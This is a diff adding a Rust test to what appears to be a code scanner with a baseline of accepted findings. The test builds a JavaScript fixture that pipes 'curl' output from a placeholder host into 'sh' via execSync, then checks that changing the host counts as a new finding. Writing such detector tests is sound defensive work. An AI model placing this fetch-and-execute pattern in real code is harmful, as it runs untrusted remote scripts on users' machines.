@@ -186,3 +186,15 @@ fn a_repository_with_many_old_findings_adopts_in_three_commands() {
     assert_eq!(counted(&report), [("src/part7.js".to_owned(), vec!["destructive-call".to_owned()])]);
     assert_eq!(ends, 2);
 }
+
+#[test]
+fn a_constant_that_becomes_another_is_new_wherever_it_stands() {
+    let text = |host: &str| {
+        format!("import cp from 'node:child_process';\nconst from = 'https://{host}/i.sh';\n\ncp.execSync('curl -s ' + from + ' | sh');\n")
+    };
+    let folder = adopted(&[("a.js", &text("get.ours.example"))]);
+    write(folder.path(), "a.js", &format!("let more = 1;\n{}", text("get.ours.example")));
+    assert_eq!(scan(folder.path(), &[]).1, 0);
+    write(folder.path(), "a.js", &text("get.others.example"));
+    assert_ne!(scan(folder.path(), &[]).1, 0);
+}
